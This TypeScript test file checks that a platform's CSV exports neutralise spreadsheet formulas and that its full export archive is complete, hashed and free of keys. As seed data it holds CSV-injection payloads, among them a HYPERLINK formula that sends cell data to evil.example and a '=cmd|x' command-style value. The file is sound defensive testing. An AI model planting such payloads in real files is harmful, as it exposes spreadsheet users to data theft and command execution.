/*
 * Guarantee: the data belong to whoever runs the installation. Every list is a CSV file that no spreadsheet computes
 * anything from, and everything together is one archive in open formats that says itself what it holds and that it is whole.
 */
import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { ExportRunner } from '#modules/exports';
import { inWorkspace } from '#platform/postgres';
import { type ImportServer, openImportServer } from '../support/import-server.ts';
import { testDatabase } from '../support/test-database.ts';
import { openZip } from '../support/zip-reader.ts';
import { award, campaign, club } from './shop.ts';

const NOW = Date.UTC(2026, 0, 20, 9);
const EVIL = '=HYPERLINK("http://evil.example?"&A1;"click")';
const ACCOUNTS = 450;
const database = testDatabase();
const programme = club(campaign('base', award('event.netAmount')));

let server: ImportServer;
let accountId: string;

beforeAll(async () => {
  server = await openImportServer(database, programme, NOW);
  const { importText } = server;
  const rows = Array.from(
    { length: ACCOUNTS },
    (_, n) => `K-${n},${n === 0 ? `"${EVIL.replaceAll('"', '""')}"` : 'Plain'}`,
  );
  const accounts = { name: EVIL, kind: 'accounts', system: 'erp', fields: { externalId: 'no', name: 'name' } };
  await importText(['no,name', ...rows, ',nobody'].join('\n'), accounts);
  const persons = { name: 'P', kind: 'persons', system: 'erp', fields: { externalId: 'no', familyName: 'name' } };
  await importText('no,name\np1,@SUM(A1:A9)\np2,+49 Berg\np3,-7', persons);
  const members = { name: 'M', kind: 'memberships', system: 'erp', fields: { account: 'a', person: 'p', roles: 'r' } };
  await importText('a,p,r\nK-0,p1,buyer\nK-0,p2,buyer', members);
  const products = { name: 'S', kind: 'products', fields: { sku: 'sku', name: 'name', category: 'group' } };
  await importText(`sku,name,group\n=1+1,-1+1,\n@x,plain,"\t=1"`, products);
  await server.send('PUT', `/v1/import-mappings/${encodeURIComponent('=cmd|x')}`, persons);
  accountId = (await server.send('GET', '/v1/accounts/by-external-id?externalId=K-0&system=erp')).body.id;
  for (let n = 0; n < 3; n++) {
    const event = { source: '+x', id: `=${n}`, type: 'invoice', occurredAt: '2026-01-10T10:00:00Z', currency: 'EUR' };
    await server.send('POST', '/v1/events', { ...event, netAmount: n + 1, account: { externalId: 'K-0' } });
  }
}, 120_000);
afterAll(() => server?.close());

/** What every spreadsheet takes for a formula, and no number below zero. */
const runs = (cell: string) => /^[=+\-@\t\r\n]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);

interface Operation {
  operationId: string;
  parameters?: { name: string; in: string; required?: boolean }[];
}

describe('every list as CSV', () => {
  it('has the entries of its pages, one row each, and no cell that a spreadsheet would compute', async () => {
    const { paths } = JSON.parse((await server.text('/openapi.json')).text) as {
      paths: Record<string, { get?: Operation }>;
    };
    const seen: Record<string, number> = {};
    const neutralised = new Set<string>();
    for (const [path, { get }] of Object.entries(paths)) {
      const { operationId = '', parameters = [] } = get ?? {};
      if (!parameters.some(({ name }) => name === 'format')) continue;
      const own = parameters.filter(({ name, required }) => required && name !== 'accountId').map(({ name }) => name);
      // Lists below something that this workspace has none of, and those of members, whom no key is.
      if (own.length > 0 || path.startsWith('/v1/member/')) continue;
      const url = path.replace('{accountId}', accountId);
      const entries: unknown[] = [];
      const paged = parameters.some(({ name }) => name === 'cursor');
      for (let cursor: string | null = ''; cursor !== null; ) {
        const query: string = paged ? `?limit=30${cursor === '' ? '' : `&cursor=${cursor}`}` : '';
        const { status, body } = await server.send('GET', `${url}${query}`);
        expect(status, `${operationId}: ${JSON.stringify(body)}`).toBe(200);
        entries.push(...body.data);
        cursor = body.nextCursor ?? null;
      }
      const { status, type, text } = await server.text(`${url}?format=csv`);
      expect([status, type.slice(0, 8)], `${operationId}: ${text}`).toEqual([200, 'text/csv']);
      const [header = [], ...rows] = parse(text, { relax_column_count: false }) as string[][];
      expect(new Set(header).size, operationId).toBe(header.length);
      expect(rows.length, operationId).toBe(entries.length);
      expect(rows.flat().filter(runs), operationId).toEqual([]);
      seen[operationId] = rows.length;
      if (rows.flat().some((cell) => /^'[=+\-@\t]/.test(cell))) neutralised.add(operationId);
    }
    expect(Object.keys(seen).length).toBeGreaterThan(20);
    expect(seen).toMatchObject({ listAccounts: ACCOUNTS, listPersons: 3, listProducts: 2, listEvents: 3 });
    expect([...neutralised].sort()).toEqual(
      expect.arrayContaining(['listAccounts', 'listImportMappings', 'listImports', 'listPersons', 'listProducts']),
    );
  });

  it('begins with a byte order mark where that is asked for, and is one page where a limit is', async () => {
    const { text } = await server.text('/v1/accounts?format=csv&bom=true&limit=3');
    expect(text.startsWith('\ufeffid,name,')).toBe(true);
    expect(parse(text, { bom: true })).toHaveLength(4);
  });
});

describe('everything', () => {
  const runner = (name: string) => {
    const { pool, services } = server.instance;
    const deps = { pool, clock: server.clock, files: services.files, keys: services.keys };
    return new ExportRunner(deps, (error) => {
      throw new Error(`${name} failed`, { cause: error });
    });
  };
  const sweep = (exports: ExportRunner) => inWorkspace(server.workspaceId, () => exports.sweep(server.workspaceId));
  const order = async () => (await server.send('POST', '/v1/exports')).body.id as string;

  async function fetchFile(id: string): Promise<Map<string, Buffer>> {
    const answer = await fetch(`${server.url}/v1/exports/${id}/file`, {
      headers: { authorization: `Bearer ${server.apiKey}` },
    });
    expect(answer.status).toBe(200);
    const bytes = Buffer.from(await answer.arrayBuffer());
    expect(String(bytes.length)).toBe(answer.headers.get('content-length'));
    return openZip(bytes);
  }

  it('is an archive whose manifest names every file with its rows, size and hash, and what was left out and why', async () => {
    const id = await order();
    expect((await server.send('GET', `/v1/exports/${id}/file`)).body).toMatchObject({ code: 'export_not_ready' });
    const exports = runner('the export');
    await sweep(exports);
    await exports.drained();
    const job = (await server.send('GET', `/v1/exports/${id}`)).body;
    expect(job).toMatchObject({ state: 'done', failure: null });
    const files = await fetchFile(id);
    const manifest = JSON.parse(files.get('manifest.json')!.toString());
    expect([...files.keys()].sort()).toEqual(
      [...manifest.files.map(({ name }: { name: string }) => name), 'manifest.json'].sort(),
    );
    let total = 0;
    for (const { name, rows, bytes, sha256 } of manifest.files) {
      const content = files.get(name)!;
      expect(content.length, name).toBe(bytes);
      expect(createHash('sha256').update(content).digest('hex'), name).toBe(sha256);
      if (!name.startsWith('tables/')) continue;
      const lines = content.toString().split('\n').slice(0, -1);
      expect(lines.length, name).toBe(rows);
      for (const line of lines) expect(JSON.parse(line).workspace_id, name).toBe(server.workspaceId);
      total += rows;
    }
    expect(job.progress.rows).toBe(total);
    const leftOut = manifest.leftOut.map(({ table, column }: Record<string, string>) => column ?? table);
    expect(leftOut).toEqual(expect.arrayContaining(['data_key', 'lane', 'stored_file_piece']));
    expect(manifest.leftOut.every(({ because }: { because: string }) => because.length > 0)).toBe(true);
  });

  it('holds names and formulas as they were written, the programme as a file, and no key', async () => {
    const id = await order();
    const exports = runner('the export');
    await sweep(exports);
    await exports.drained();
    const files = await fetchFile(id);
    const rows = (table: string) =>
      files
        .get(`tables/${table}.ndjson`)!
        .toString()
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
    expect(rows('account')).toHaveLength(ACCOUNTS);
    expect(rows('account').map(({ name }) => name)).toContain(EVIL);
    // Sealed in the database; open for whom they belong to.
    expect(files.get('tables/person.ndjson')!.toString()).toContain('@SUM(A1:A9)');
    expect(rows('import_row').map(({ content }) => content)).toContain(',nobody');
    const file = parseYaml(files.get('programmes/club.yaml')!.toString());
    const wanted = parseYaml(programme);
    expect(file.programme).toMatchObject(wanted.programme);
    expect(Object.keys(file.campaigns)).toEqual(['base']);
    const all = Buffer.concat([...files.values()]).toString('latin1');
    expect(all).not.toContain(server.apiKey);
    expect(all).not.toContain(server.apiKey.split('_').at(-1));
  });

  it('goes on in another process where the first one ends, and leaves nothing of the first attempt behind', async () => {
    const id = await order();
    const first = runner('the first attempt');
    await sweep(first);
    await first.stop();
    expect((await server.send('GET', `/v1/exports/${id}`)).body).toMatchObject({ state: 'queued' });
    expect((await server.send('GET', `/v1/exports/${id}/file`)).status).toBe(409);
    const second = runner('the second attempt');
    await sweep(second);
    await second.drained();
    expect((await server.send('GET', `/v1/exports/${id}`)).body).toMatchObject({ state: 'done' });
    const { rows } = await database.pool.query(
      `select count(*) from stored_file where workspace_id = $1 and purpose = 'export'`,
      [server.workspaceId],
    );
    expect(rows).toEqual([{ count: 3n }]);
    expect((await fetchFile(id)).has('manifest.json')).toBe(true);
  });
});
